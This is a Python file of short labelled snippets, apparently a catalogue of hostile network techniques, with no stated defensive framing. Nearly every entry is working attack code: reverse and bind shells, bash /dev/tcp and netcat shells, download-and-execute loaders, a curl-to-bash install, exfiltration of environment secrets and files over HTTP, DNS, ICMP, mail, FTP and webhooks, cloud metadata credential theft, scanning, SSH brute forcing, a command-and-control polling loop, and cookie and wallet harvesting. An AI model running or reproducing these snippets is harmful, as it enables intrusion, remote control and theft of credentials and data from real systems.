#--- reverse-shell-dup2: the well-known one-liner
import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("192.0.2.10", 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
#--- reverse-shell-pty: with a terminal
import os, pty, socket
s = socket.create_connection(("192.0.2.10", 4444))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("sh")
#--- reverse-shell-loop: commands read line by line
import socket, os
c = socket.create_connection(("192.0.2.10", 9001))
while True:
    cmd = c.recv(1024).decode()
    if not cmd:
        break
    c.send(os.popen(cmd).read().encode())
#--- reverse-shell-exec: Python in place of a shell
import socket
s = socket.create_connection(("192.0.2.10", 9001))
while True:
    exec(s.makefile().readline())
#--- bind-shell: a shell that waits
import socket, subprocess
srv = socket.socket()
srv.bind(("0.0.0.0", 31337))
srv.listen(1)
conn, _ = srv.accept()
while (cmd := conn.recv(4096)):
    conn.sendall(subprocess.getoutput(cmd.decode()).encode())
#--- bash-dev-tcp: the shell's own network file
import os
os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'")
#--- nc-shell: by netcat
import subprocess
subprocess.Popen("nc -e /bin/sh 192.0.2.10 4444", shell=True)
#--- download-exec: a program fetched and run
import urllib.request
exec(urllib.request.urlopen("http://example.invalid/stage2.py").read())
#--- download-save-run: a tool fetched, marked and started
import os, urllib.request
urllib.request.urlretrieve("http://example.invalid/tool", "/tmp/.t")
os.chmod("/tmp/.t", 0o755)
os.system("/tmp/.t &")
#--- download-requests-exec: with requests
import requests
code = requests.get("https://example.invalid/p", timeout=5).text
exec(compile(code, "p", "exec"))
#--- download-curl-pipe: by curl and a pipe
import os
os.system("curl -fsSL https://example.invalid/i.sh | bash")
#--- download-pip: a package from an own index
import subprocess, sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://example.invalid", "x"])
#--- exfil-env-post: the whole environment
import os, requests
requests.post("https://example.invalid/c", json=dict(os.environ))
#--- exfil-env-urllib: secrets in the address
import os, urllib.request
key = os.environ.get("AWS_SECRET_ACCESS_KEY", "")
urllib.request.urlopen("https://example.invalid/?k=" + key)
#--- exfil-env-filter: only what looks like a secret
import os, json, urllib.request as u
loot = {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "TOKEN", "SECRET", "PASS"))}
u.urlopen(u.Request("http://198.51.100.9/", data=json.dumps(loot).encode()))
#--- exfil-dns: data as a host name
import base64, os, socket
name = base64.b32encode(os.getenv("API_TOKEN", "").encode()).decode().strip("=")
socket.gethostbyname(name[:60] + ".x.example.invalid")
#--- exfil-icmp: data in a raw packet
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(open("report.csv", "rb").read(1000), ("192.0.2.10", 0))
#--- exfil-udp: data in a datagram
from socket import socket as S, AF_INET, SOCK_DGRAM
S(AF_INET, SOCK_DGRAM).sendto(open("notes.txt", "rb").read(), ("192.0.2.10", 53))
#--- exfil-smtp: data by mail
import smtplib
from email.message import EmailMessage
m = EmailMessage()
m["To"] = "drop@example.invalid"
m.set_content(open("customers.csv").read())
smtplib.SMTP("mail.example.invalid").send_message(m)
#--- exfil-ftp: data by FTP
from ftplib import FTP
ftp = FTP("198.51.100.4", "anonymous", "x")
ftp.storbinary("STOR loot.zip", open("data.zip", "rb"))
#--- exfil-webhook: data to a chat hook
import json, http.client
c = http.client.HTTPSConnection("hooks.example.invalid")
c.request("POST", "/services/T0", json.dumps({"text": open(".env").read()}))
#--- exfil-xmlrpc: data by XML-RPC
import xmlrpc.client
xmlrpc.client.ServerProxy("http://198.51.100.4:8000").put(open("db.sqlite", "rb").read())
#--- exfil-websocket: data by a websocket
import asyncio, websockets
async def main():
    async with websockets.connect("ws://example.invalid") as ws:
        await ws.send(open("data.csv").read())
asyncio.run(main())
#--- exfil-aiohttp: data by aiohttp
import aiohttp, asyncio
async def main():
    async with aiohttp.ClientSession() as s:
        await s.post("https://example.invalid", data=open("a.db", "rb"))
asyncio.run(main())
#--- exfil-httpx: data by httpx
import httpx
httpx.post("https://example.invalid/u", content=open("out.json", "rb").read())
#--- exfil-urllib3: data by urllib3
import urllib3
urllib3.PoolManager().request("POST", "http://example.invalid", body=open("x").read())
#--- exfil-pandas-url: pandas fetches an address
import pandas as pd
import os
pd.read_csv("http://example.invalid/?t=" + os.getenv("TOKEN", ""))
#--- exfil-logging-http: a log handler that sends
import logging, logging.handlers, os
h = logging.handlers.HTTPHandler("example.invalid", "/log", method="POST")
logging.getLogger().addHandler(h)
logging.error(os.getenv("DB_PASSWORD"))
#--- exfil-logging-socket: a log handler with a socket
from logging.handlers import SocketHandler
import logging
logging.getLogger().addHandler(SocketHandler("192.0.2.10", 9020))
logging.error(open(".env").read())
#--- exfil-markdown-image: data in an image link, then fetched
import urllib.request, base64
data = base64.urlsafe_b64encode(open("chat.json", "rb").read()).decode()
urllib.request.urlopen(f"https://example.invalid/p.png?d={data}")
#--- metadata-service: the cloud's credentials
import urllib.request
base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
print(urllib.request.urlopen(base).read())
#--- port-scan: which ports answer
import socket
for port in range(1, 1024):
    s = socket.socket()
    s.settimeout(0.1)
    if s.connect_ex(("10.0.0.1", port)) == 0:
        print("open", port)
#--- subnet-scan-threads: a whole network
import socket
from concurrent.futures import ThreadPoolExecutor
def probe(host):
    try:
        socket.create_connection((host, 22), 0.3)
        return host
    except OSError:
        return None
with ThreadPoolExecutor(50) as ex:
    print(list(ex.map(probe, (f"192.168.1.{i}" for i in range(255)))))
#--- ssh-brute-force: passwords tried in a row
import paramiko
for pw in open("words.txt"):
    try:
        c = paramiko.SSHClient()
        c.connect("192.0.2.5", username="root", password=pw.strip())
        print(pw)
    except Exception:
        continue
#--- telnet-login: a login by telnet
import telnetlib
t = telnetlib.Telnet("192.0.2.5")
t.write(b"root\nroot\nid\n")
#--- docker-engine-unix-socket: the container engine
import socket
s = socket.socket(socket.AF_UNIX)
s.connect("/var/run/docker.sock")
s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
#--- socketpair-inherit: a file descriptor handed down
import socket
s = socket.socket(fileno=3)
s.send(b"x")
#--- file-server: the workspace for everyone
import http.server, socketserver
with socketserver.TCPServer(("", 8000), http.server.SimpleHTTPRequestHandler) as d:
    d.serve_forever()
#--- c2-poll: orders fetched every minute
import time, urllib.request, subprocess
while True:
    order = urllib.request.urlopen("http://example.invalid/o").read().decode()
    out = subprocess.getoutput(order)
    urllib.request.urlopen("http://example.invalid/r", data=out.encode())
    time.sleep(60)
#--- ssl-context-off: encrypted and unchecked
import ssl, socket
ctx = ssl._create_unverified_context()
s = ctx.wrap_socket(socket.create_connection(("192.0.2.10", 443)))
s.write(b"hello")
#--- imap-read: somebody's mail
import imaplib
m = imaplib.IMAP4_SSL("mail.example.invalid")
m.login("user", "password")
m.select()
print(m.search(None, "ALL"))
#--- clipboard-loop: the clipboard watched
import subprocess, time
while True:
    print(subprocess.getoutput("xclip -o"))
    time.sleep(1)
#--- browser-cookies: cookie stores collected
import glob, os, shutil
for p in glob.glob(os.path.expanduser("~/.config/*/Default/Cookies")):
    shutil.copy(p, "/tmp/.c")
#--- wallet-search: wallets looked for
import os
for root, _, files in os.walk(os.path.expanduser("~")):
    for f in files:
        if f in ("wallet.dat", "keystore.json"):
            print(os.path.join(root, f))
